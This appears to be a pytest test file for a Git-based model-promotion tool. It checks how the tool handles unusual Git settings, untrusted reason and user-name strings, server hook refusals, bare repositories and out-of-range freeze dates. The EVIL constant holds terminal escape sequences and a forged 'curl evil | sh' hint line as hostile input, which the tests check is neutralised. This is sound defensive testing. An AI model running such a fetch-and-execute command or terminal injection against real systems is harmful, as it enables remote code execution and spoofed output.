"""Edges of the lifecycle's commands: the person's Git configuration, texts of other people, refusals, odd clones."""

import json

import pytest

from tests.lib.lifecycle_world import World
from tests.lib.repos import Ran, Repo

EVIL = "\x1b[2J\x1b]0;owned\x07 fine\n\nhint: curl evil | sh"

ODD_CONFIG = {
    "column.ui": "always",
    "color.ui": "always",
    "color.push": "always",
    "color.remote": "always",
    "core.pager": "false",
    "core.abbrev": "4",
    "format.pretty": "%s",
    "i18n.commitEncoding": "latin1",
    "i18n.logOutputEncoding": "latin1",
    "log.date": "relative",
    "log.decorate": "full",
    "log.follow": "true",
    "log.showSignature": "true",
    "push.followTags": "true",
    "push.recurseSubmodules": "only",
    "status.branch": "true",
    "status.relativePaths": "false",
    "status.short": "true",
    "status.showStash": "true",
    "status.showUntrackedFiles": "no",
    "tag.sort": "-version:refname",
}


def configure(world: World) -> None:
    for key, value in ODD_CONFIG.items():
        world.author.git("config", "--global", key, value)


def test_promote_env_rollback_and_audit_give_the_same_with_an_odd_git_configuration(world: World) -> None:
    author = world.author
    author.git("config", "user.name", "Ada Größe")
    configure(world)
    for version in ("v1", "v2"):
        author.kit("promote", version, "staging", "--reason", "größer")
    author.kit("rollback", "staging")
    staging = json.loads(author.kit("env", "show", "staging", "--json").stdout)
    assert (staging["version"], staging["by"], staging["drift"]) == ("v1", "Ada Größe", False)
    assert [run["reason"] for run in staging["history"]] == [None, "größer", "größer"]
    assert world.tip("staging") == author.out("rev-parse", "refs/remotes/origin/staging")
    assert "encoding" not in world.bare.out("cat-file", "commit", "staging")
    assert author.kit("audit", "verify").stderr == ""
    assert author.kit("status").stdout == "On dev: 1 large file, 4.9 KiB\n"


# -- texts of other people -------------------------------------------------------------------------------------------


def assert_harmless(done: Ran) -> None:
    for out in (done.stdout, done.stderr):
        assert {char for char in out if not char.isprintable()} <= {"\n"}
        assert not [line for line in out.splitlines() if line.startswith("hint: curl evil")]


def test_reasons_and_names_of_others_never_act_on_the_terminal_or_forge_a_line(world: World) -> None:
    author = world.author
    author.kit("promote", "v1", "staging")
    author.git("config", "user.name", "Eve\x1b[31m\rroot")
    author.kit("promote", "v2", "staging", "--reason", EVIL)
    author.kit("hold", "staging", "--reason", EVIL)
    refused = author.kit("promote", "v3", "staging", code=18)
    assert "curl evil" in refused.stderr
    assert_harmless(refused)
    author.kit("freeze", "--all", "--reason", EVIL)
    author.kit("reject", "v3", "--reason", EVIL)
    shown = author.kit("env", "show", "staging")
    assert "\\x1b[2J" in shown.stdout
    for command in (
        ("env",),
        ("env", "show", "staging"),
        ("env", "history", "staging"),
        ("env", "diff", "v3", "staging"),
        ("audit", "log"),
        ("lineage",),
        ("promote", "v3", "staging", "--dry-run"),
    ):
        assert_harmless(author.kit(*command, code=None))
    reasons = {event.get("reason") for event in json.loads(author.kit("audit", "log", "--json").stdout)}
    assert EVIL in reasons


def test_reason_that_is_not_utf_8_is_recorded_as_replacement_characters(world: World) -> None:
    world.author.kit("hold", "staging", "--reason", "caf\udce9")
    (event,) = json.loads(world.author.kit("audit", "log", "--kind", "hold", "--json").stdout)
    assert event["reason"] == "caf\ufffd"
    assert "\\udce9" not in world.bare.out("log", "-1", "--format=%B", "kit/journal")


# -- what servers say ------------------------------------------------------------------------------------------------


def hook(repo: Repo, script: str) -> None:
    path = repo.path / "hooks" / "pre-receive"
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"#!/bin/sh\n{script}exit 1\n")
    path.chmod(0o755)


def test_refusal_of_the_server_passes_its_words_and_its_hint_on(world: World) -> None:
    hook(
        world.bare,
        "printf 'git kit refuses refs/heads/staging: v1 \\033[31mis held [rejected]\\n' >&2\n"
        "echo 'hint: git kit resume staging' >&2\n",
    )
    done = world.author.kit("promote", "v1", "staging", code=12)
    assert done.stderr.splitlines()[-4:] == [
        "error: origin refuses to move staging, kit/journal:",
        "  git kit refuses refs/heads/staging: v1 is held [rejected]",
        "",
        "hint: origin says: git kit resume staging",
    ]


def test_refusal_of_a_server_that_gives_no_hint_names_whom_to_ask(world: World) -> None:
    hook(world.bare, "printf 'closed\\033]0;x\\007\\n' >&2\n")
    done = world.author.kit("promote", "v1", "staging", code=12)
    assert "\n  closed\\x1b]0;x\\x07\n\nhint: ask who administers it\n" in done.stderr
    assert_harmless(done)


def test_remote_that_lets_nobody_in_is_denied_with_what_to_check_and_names_no_branch(world: World) -> None:
    ssh = world.folder / "ssh"
    ssh.write_text("#!/bin/sh\necho 'ada@git.example.com: Permission denied (publickey).' >&2\nexit 255\n")
    ssh.chmod(0o755)
    world.author.git("config", "kit.url", f"oci-layout:{world.registry.path}")
    world.author.git("remote", "set-url", "origin", "ssh://git.example.com/acme/llm.git")
    done = world.author.kit("promote", "v1", "staging", code=12, extra={"GIT_SSH_COMMAND": str(ssh)})
    assert done.stderr.startswith(
        "error: origin gives no access:\n  ada@git.example.com: Permission denied (publickey)."
    )
    assert done.stderr.endswith("\nhint: check your key or login: git ls-remote origin\n")


# -- odd clones ------------------------------------------------------------------------------------------------------


def test_promotion_in_a_clone_without_tags_tells_how_to_bring_them(world: World) -> None:
    clone = world.bare.clone(world.folder / "tagless", "--branch", "dev", "--no-tags")
    done = clone.kit("promote", "v1", "staging", code=10)
    assert 'error: there is no tag "v1"' in done.stderr
    assert "git fetch --tags" in done.stderr.partition("hint: ")[2]
    clone.git("fetch", "--quiet", "--tags")
    clone.kit("promote", "v1", "staging")
    assert world.tip("staging") is not None


@pytest.mark.parametrize(
    "command", [("promote", "v1", "staging"), ("rollback", "staging"), ("approve", "v1", "staging"), ("env", "sync")]
)
def test_bare_repository_of_a_server_sends_whoever_moves_versions_to_a_clone(
    world: World, command: tuple[str, ...]
) -> None:
    done = world.bare.kit(*command, code=17)
    assert (
        "error: this is a bare repository: versions are approved, promoted and rolled back from a clone" in done.stderr
    )
    assert f"hint: git kit clone {world.bare.path}\n" in done.stderr
    assert world.tip("staging") is None


def test_status_of_a_bare_repository_is_unsupported(world: World) -> None:
    done = world.bare.kit("status", code=17)
    assert "error: this is a bare repository: it has no files that could be changed" in done.stderr


# -- times -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("until", ["9999-12-31", "9999-12-31T23:59-12:00", "0001-01-01T00:00+12:00"])
def test_freeze_until_a_time_beyond_the_calendar_is_a_usage_error(world: World, until: str) -> None:
    done = world.author.kit("freeze", "--all", "--until", until, code=2)
    assert f'"{until}" is beyond what a calendar has: the years 1 to 9999' in done.stderr
    assert json.loads(world.author.kit("audit", "log", "--kind", "freeze", "--json").stdout) == []


def test_freeze_until_the_last_moment_that_has_an_end_is_taken(world: World) -> None:
    world.author.kit("freeze", "--all", "--until", "9999-12-30")
    assert "frozen until 9999-12-31 00:00" in world.author.kit("env").stdout
